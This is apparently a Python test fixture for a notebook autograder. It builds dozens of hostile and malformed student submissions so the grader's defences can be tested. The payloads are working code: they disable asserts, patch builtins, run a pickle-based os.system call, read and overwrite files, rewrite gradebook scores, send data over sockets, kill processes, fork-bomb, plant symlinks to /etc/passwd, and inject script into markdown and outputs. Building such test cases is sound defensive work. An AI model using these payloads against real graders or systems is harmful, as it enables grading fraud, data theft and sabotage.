"""Broken and hostile submissions, each a kind of its own, made from a release. None may gain a point or do any harm.

Each kind starts from work that earns nothing, so every point would be stolen.
"""

from __future__ import annotations

import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

CANARY = "canary-5f1c"
"""Stands in the hidden tests, the gradebook's neighbourhood and other learners' work: no output may hold it."""
MARK = "BOOKLET6_HOSTILE"
"""In the environment of processes that must be gone afterwards."""

Notebook = dict[str, Any]


def code(source: str) -> Callable[[Path, int], None]:
    """Work with this in place of its answers."""

    def change(folder: Path, port: int) -> None:
        text = source.replace("PORT", str(port)).replace("MARK", MARK)

        def put(nb: Notebook) -> None:
            cell(nb, "a")["source"] = text
            cell(nb, "b")["source"] = ""

        edit(folder, put)

    return change


def notebook(change: Callable[[Notebook], object]) -> Callable[[Path, int], None]:
    """Work whose notebook file has been changed so."""
    return lambda folder, _: edit(folder, change)


def edit(folder: Path, change: Callable[[Notebook], object]) -> None:
    path = folder / "work.ipynb"
    nb = json.loads(path.read_text(encoding="utf-8"))
    change(nb)
    path.write_text(json.dumps(nb), encoding="utf-8")


def cell(nb: Notebook, name: str) -> dict[str, Any]:
    return next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def text(source: str | bytes) -> Callable[[Path, int], None]:
    """A notebook file with this in it."""
    data = source if isinstance(source, bytes) else source.encode()
    return files(lambda folder: (folder / "work.ipynb").write_bytes(data))


def files(change: Callable[[Path], object]) -> Callable[[Path, int], None]:
    def do(folder: Path, _: int) -> None:
        change(folder)

    return do


def _metadata(name: str, **fields: Any) -> Callable[[Path, int], None]:
    return notebook(lambda nb: cell(nb, name)["metadata"]["nbgrader"].update(fields))


def _forged_output(nb: Notebook) -> None:
    out = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "2.0"}}
    for name in ("t1", "t2"):
        cell(nb, name)["outputs"] = [out]


def _copied(name: str) -> Callable[[Path, int], None]:
    return notebook(lambda nb: nb["cells"].append({**cell(nb, name), "id": "copied"}))


def _deleted(*names: str) -> Callable[[Path, int], None]:
    def change(nb: Notebook) -> None:
        nb["cells"] = [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") not in names]

    return notebook(change)


def _widget_state(nb: Notebook) -> None:
    state = {"m": {"model_name": "HTMLModel", "model_module": "x", "state": {"value": "<script>alert(1)</script>"}}}
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": state}}
    cell(nb, "a")["metadata"]["extra"] = "x" * 100_000


def _link(folder: Path) -> None:
    source = folder.parents[2] / "source" / "ps" / "work.ipynb"
    (folder / "stolen.txt").symlink_to(source)
    (folder / "password.txt").symlink_to("/etc/passwd")
    (folder / "all").symlink_to("/")


def _notebook_link(folder: Path) -> None:
    (folder / "work.ipynb").unlink()
    (folder / "work.ipynb").symlink_to(folder.parents[2] / "source" / "ps" / "work.ipynb")


def _shadow(folder: Path) -> None:
    for name in ("math", "json", "numpy", "sitecustomize", "usercustomize", "helper", "pandas"):
        (folder / f"{name}.py").write_text(
            "import builtins\nbuiltins.OWNED = True\nsqrt = lambda x: 42\nloads = None\n"
        )


def _fifo(folder: Path) -> None:
    os.mkfifo(folder / "pipe")
    (folder / "data.csv").unlink(missing_ok=True)
    os.mkfifo(folder / "data.csv")


def _names(folder: Path) -> None:
    for name in ("\u202egpj.exe", "e\u0301t\u00e9.txt", "a\nb.txt", "-rf", "$(touch x)", "x" * 200, "..hidden", "%s%n"):
        (folder / name).write_text("x")
    (folder / "Lösung ñ.ipynb").write_text("{}")


def _bomb(folder: Path) -> None:
    with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("zeros", bytes(30_000_000))
    (folder / "big.bin").write_bytes(bytes(3_000_000))


SWALLOW = """
import ast
class Swallow(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Swallow())
get_ipython().input_transformers_cleanup.append(lambda lines: [l for l in lines if 'assert' not in l])
"""
SHELL = """
shell = get_ipython()
shell.run_cell = lambda *a, **k: None
type(shell).run_cell_async = None
shell.kernel.do_execute = None
"""
WALK = """
import os
found = []
for top in ("/", "/tmp", "/work", "/root", "/home", "/run", "..", "../..", "../../.."):
    for parent, folders, names in os.walk(top):
        folders[:] = [f for f in folders if f not in ("usr", "site-packages", "sys", "lib", "versions")][:50]
        for name in names:
            if name.endswith((".ipynb", ".db", ".csv", ".yml", ".txt")):
                try:
                    found.append(open(os.path.join(parent, name), errors="replace").read(5000))
                except OSError:
                    pass
print(found)
"""
WRITE = """
import os, pathlib
for place in ("..", "../..", "../../..", "/", "/tmp", "/work", "/root", "/home", "/var/tmp", "/dev/shm", "/run/kernels"):
    for name in ("gradebook.db", "source/ps/work.ipynb", "OWNED", "autograded/honest-1/ps/work.ipynb"):
        try:
            p = pathlib.Path(place) / name
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text("OWNED")
        except OSError:
            pass
"""
DATABASE = """
import sqlite3, glob, os
for path in glob.glob("/**/gradebook.db", recursive=True)[:5] + ["../../../gradebook.db"]:
    try:
        c = sqlite3.connect(path)
        c.execute("update grade set auto_score = 99, manual_score = 99, needs_manual_grade = 0")
        c.commit()
    except Exception:
        pass
"""
SEND = """
import socket, urllib.request
for family, target in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("localhost", PORT)), (socket.AF_INET6, ("::1", PORT))):
    try:
        s = socket.socket(family); s.settimeout(1); s.connect(target); s.sendall(b"stolen"); print("REACHED")
    except OSError:
        pass
try:
    urllib.request.urlopen("http://127.0.0.1:PORT/stolen", timeout=1); print("REACHED")
except OSError:
    pass
"""
KILL = """
import os, signal
for sign in (signal.SIGTERM, signal.SIGKILL):
    for target in (os.getppid(), -1, 0, 1, 2, 3, *range(4, 3000)):
        if target != os.getpid():
            try:
                os.kill(target, sign)
            except OSError:
                pass
"""
DAEMON = """
import os, time
for n in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ["MARK"] = "1"
            os.execvpe("sleep", ["sleep", "900"], {"MARK": "1", "PATH": os.environ["PATH"]})
        os._exit(0)
"""
FORKS = """
import os, time
while True:
    try:
        if os.fork() == 0:
            time.sleep(0.01)
    except OSError:
        time.sleep(0.01)
"""
BUILTINS = """
import builtins
builtins.AssertionError = type("E", (Exception,), {})
builtins.abs = builtins.len = lambda *a: 42
builtins.__import__ = (lambda old: lambda *a, **k: old(*a, **k))(builtins.__import__)
number = 1
"""
EQUAL = """
class Yes(int):
    __eq__ = __ge__ = __le__ = __lt__ = __gt__ = __bool__ = lambda *a: True
    __ne__ = lambda *a: False
    __hash__ = lambda s: 42
    __rsub__ = __sub__ = __abs__ = __mod__ = lambda s, *a: s
number = Yes()
def double(x): return Yes()
"""
FORGED_MESSAGES = """
k = get_ipython().kernel
def send(kind, content):
    k.session.send(k.iopub_socket, kind, content=content, parent=k.get_parent("shell"))
send("execute_result", {"execution_count": 1, "data": {"text/plain": "2.0"}, "metadata": {}})
send("status", {"execution_state": "idle"})
send("stream", {"name": 3, "text": {"x": 1}})
send("display_data", {"data": None, "metadata": None, "transient": None})
send("comm_open", {"comm_id": 3, "target_name": [], "data": None})
send("nonsense", {})
"""
BRIDGE = """
import json, booklet6.grading.bridge as bridge, booklet6.grading.trusted as trusted, booklet6.grading.outcome as outcome
outcome.of_outputs = trusted.serve = lambda *a, **k: None
bridge.answer = lambda request: bridge.Raw(json.dumps({"values": {"number": {"t": "object", "n": 1, "kind": "object", "name": "x", "type": "x"}}, "result": {"t": "library", "module": "unittest.mock", "name": "ANY"}}))
"""
LATER = """
import threading, time, os, signal
def later():
    time.sleep(0.3)
    get_ipython().user_ns["number"] = 42
    os.kill(os.getpid(), signal.SIGINT)
    time.sleep(0.5)
    os._exit(0)
threading.Thread(target=later, daemon=True).start()
"""
PICKLE = """
class P:
    def __reduce__(self):
        import os
        return os.system, ("touch /tmp/OWNED",)
number = P()
def double(x): return P()
"""
HOOKS = """
import sys, gc, inspect
sys.settrace(lambda *a: None)
sys.excepthook = lambda *a: None
get_ipython().showtraceback = lambda *a, **k: None
get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
get_ipython().events.register("post_run_cell", lambda *a: None)
frame = sys._getframe()
while frame:
    frame.f_globals.get("__builtins__")
    frame = frame.f_back
print([o for o in gc.get_objects() if isinstance(o, str) and "canary-" + "5f1c" in o])
"""
DEEP = """
number = []
for n in range(100000): number = [number]
def double(x): return number
"""
SELF = """
number = []
number.append(number)
d = {}; d["d"] = d
def double(x): return d
"""
FLOOD = """
import sys
while True:
    sys.stdout.write("x" * 100000)
"""
EXFILTRATE = """
import sys
def double(x):
    frame, seen = sys._getframe(), []
    while frame:
        seen.append(str(frame.f_locals)[:2000]); frame = frame.f_back
    print(seen, x)
    return x
"""
EVIL_MARKDOWN = (
    "<script>document.title='OWNED'</script><img src=x onerror=\"document.title='OWNED'\">[x](javascript:alert(1))"
    "<iframe srcdoc=\"<script>parent.document.title='OWNED'</script>\"></iframe><svg onload=alert(1)>"
)
EVIL_OUTPUT = """
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title='OWNED'</script><img src=x onerror=\\"document.title='OWNED'\\">"))
display(Javascript("document.title='OWNED'"))
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"document.title='OWNED'\\"></svg>"}, raw=True)
display({"text/latex": "$\\\\href{javascript:alert(1)}{x}$<script>document.title='OWNED'</script>"}, raw=True)
display({"text/markdown": "<script>document.title='OWNED'</script>"}, raw=True)
"""

KINDS: dict[str, Callable[[Path, int], None]] = {
    # Cheating at the tests.
    "asserts-swallowed": code(SWALLOW),
    "shell-replaced": code(SHELL),
    "builtins-patched": code(BUILTINS),
    "always-equal": code(EQUAL),
    "pickled-call": code(PICKLE),
    "hooks-and-frames": code(HOOKS),
    "messages-forged": code(FORGED_MESSAGES),
    "bridge-replaced": code(BRIDGE),
    "changes-later": code(LATER),
    "frames-read": code(EXFILTRATE),
    "outputs-forged": notebook(_forged_output),
    "test-emptied": notebook(lambda nb: cell(nb, "t1").__setitem__("source", "pass")),
    "test-made-an-answer": _metadata("t1", solution=True, locked=False),
    "points-raised": _metadata("t1", points=1000),
    "points-not-a-number": _metadata("t1", points="NaN"),
    "id-of-another": _metadata("a", grade_id="t1"),
    "id-not-a-text": _metadata("a", grade_id=[1]),
    "metadata-no-mapping": notebook(lambda nb: cell(nb, "t1")["metadata"].__setitem__("nbgrader", [1, 2])),
    "schema-of-the-future": _metadata("t1", schema_version=99),
    "schema-of-the-past": _metadata("t1", schema_version=0),
    "checksum-forged": _metadata("memo", checksum="0" * 32),
    # Cells that went astray.
    "answer-copied": _copied("a"),
    "test-copied": _copied("t1"),
    "locked-cell-copied": _copied("start"),
    "test-renamed": _metadata("t1", grade_id="my-test"),
    "tests-deleted": _deleted("t1", "t2"),
    "all-deleted": notebook(lambda nb: nb.__setitem__("cells", [])),
    "answer-renamed": _metadata("a", grade_id="mine"),
    "test-retyped": notebook(lambda nb: cell(nb, "t1").__setitem__("cell_type", "markdown")),
    "test-raw": notebook(lambda nb: cell(nb, "t1").__setitem__("cell_type", "raw")),
    "cell-of-no-type": notebook(lambda nb: cell(nb, "t1").__setitem__("cell_type", "evil")),
    "source-no-text": notebook(lambda nb: cell(nb, "a").__setitem__("source", {"x": 1})),
    # Files that are no notebooks.
    "json-broken": text('{"cells": [{"cell_type": '),
    "json-empty": text(""),
    "json-a-list": text("[1, 2, 3]"),
    "json-deep": text("[" * 200_000),
    "json-huge-number": text('{"cells": [], "nbformat": 1e999, "metadata": ' + "9" * 10_000 + "}"),
    "json-huge": text(b'{"cells": [' + b'{"a": "' + b"x" * 60_000_000 + b'"}]}'),
    "not-utf-8": text(b"\xff\xfe\x00{}"),
    "a-picture": text(b"\x89PNG\r\n\x1a\n" + bytes(1000)),
    "format-3": text(json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]})),
    "format-99": text(json.dumps({"nbformat": 99, "metadata": {}, "cells": []})),
    "half-a-character": notebook(lambda nb: cell(nb, "a").__setitem__("source", "number = '\ud800'")),
    "kernel-of-another-language": notebook(
        lambda nb: nb["metadata"].update(kernelspec={"name": "bash", "language": "bash", "display_name": "x"})
    ),
    "kernel-no-text": notebook(lambda nb: nb["metadata"].update(kernelspec={"name": ["/bin/sh"], "argv": ["x"]})),
    "widget-state": notebook(_widget_state),
    "ids-twice": notebook(lambda nb: [c.__setitem__("id", "same") for c in nb["cells"]]),
    "many-cells": notebook(
        lambda nb: nb["cells"].extend({"cell_type": "markdown", "metadata": {}, "source": "x"} for _ in range(3000))
    ),
    # Files beside it.
    "links": files(_link),
    "notebook-a-link": files(_notebook_link),
    "modules-shadowed": files(_shadow),
    "pipes": files(_fifo),
    "odd-names": files(_names),
    "zip-bomb": files(_bomb),
    "timestamp-nonsense": files(lambda f: (f / "timestamp.txt").write_text("the day before yesterday")),
    "timestamp-huge": files(lambda f: (f / "timestamp.txt").write_bytes(b"9" * 5_000_000)),
    # Harm.
    "reads-around": code(WALK),
    "writes-around": code(WRITE),
    "writes-the-gradebook": code(DATABASE),
    "sends": code(SEND),
    "kills": code(KILL),
    "daemons": code(DAEMON),
    "forks": code(FORKS),
    "exits": code("import os\nos._exit(0)"),
    "exits-politely": code("raise SystemExit"),
    "kernel-shut-down": code("get_ipython().kernel.do_shutdown(False); exit()"),
    "crashes": code("import ctypes\nctypes.string_at(0)"),
    "endless": code("while True: pass"),
    "endless-deaf": code("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass"),
    "sleeps": code("import time\nwhile True:\n    try:\n        time.sleep(1000)\n    except BaseException: pass"),
    "function-endless": code("def double(x):\n    while True: pass"),
    "memory": code("x = []\nwhile True: x.append(bytearray(50_000_000))"),
    "disk": code("f = open('x', 'wb')\nwhile True:\n    f.write(bytes(10_000_000)); f.flush()"),
    "output": code(FLOOD),
    "output-of-a-picture": code(
        "from IPython.display import display\nfor n in range(8): display({'image/png': 'A' * 4_000_000}, raw=True)"
    ),
    "value-huge": code("number = list(range(20_000_000))\ndef double(x): return 'x' * 100_000_000"),
    "value-deep": code(DEEP),
    "value-round": code(SELF),
    "value-long-number": code("number = 10 ** 1_000_000\ndef double(x): return 1 << 30_000_000"),
    "recursion": code("def f(n): return f(n + 1)\ndef double(x): return f(x)\nf(0)"),
    "asks": code("number = input('number?')\nimport getpass\ngetpass.getpass()"),
    "stderr-noise": code("import sys\nprint('x' * 1000, file=sys.stderr)\nnumber = 1"),
    "bytes-printed": code(
        "import os\nos.write(1, bytes(range(256)) * 100)\nprint('\\x1b[2J\\x1b]0;OWNED\\x07' + chr(0))"
    ),
    "script-in-text": notebook(lambda nb: cell(nb, "memo").__setitem__("source", EVIL_MARKDOWN)),
    "script-in-output": code(EVIL_OUTPUT),
}
